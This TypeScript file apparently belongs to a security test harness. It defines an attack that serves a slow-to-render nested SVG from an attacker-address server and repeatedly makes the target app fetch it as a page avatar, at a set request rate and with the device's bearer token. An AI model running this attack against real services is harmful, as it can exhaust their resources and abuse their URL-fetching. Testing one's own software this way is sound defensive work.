import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { nestedSvg } from '../../../../src/files/nestedSvg.fixture.ts';
import { ATTACKER_ADDRESS, type Attack, repeat, Statuses, send } from '../target.ts';

/**
 * Reports another address of its page's avatar again and again, and asks for it. The addresses lead to a site with an SVG that
 * takes long to draw, on this machine and by a name that does not exist.
 */
export const svgAvatar: Attack = async (target) => {
  let asked = 0;
  const site = createServer((_, response) => {
    asked++;
    response.setHeader('Content-Type', 'image/svg+xml').end(nestedSvg());
  }).listen(0, ATTACKER_ADDRESS);
  await once(site, 'listening');
  const { port } = site.address() as AddressInfo;
  const statuses = new Statuses();
  const headers = { 'Content-Type': 'application/json', Authorization: `Bearer ${target.deviceSecret}` };
  const avatars = await repeat(target, { atOnce: 8, perSecond: 9 }, async (n) => {
    const host = n % 2 === 0 ? `${ATTACKER_ADDRESS}:${port}` : 'avatars.invalid';
    const body = JSON.stringify({ health: 'logged_out', page: { avatar_url: `http://${host}/${n}.png` } });
    await send(target, '/api/extension/poll', { headers, body });
    statuses.add(await send(target, `/api/avatars/${target.pageGuid}?v=${n}`, { method: 'GET' }));
  });
  site.close();
  return `${avatars} avatars that are SVGs of nested copies: ${statuses}; downloaded: ${asked}`;
};
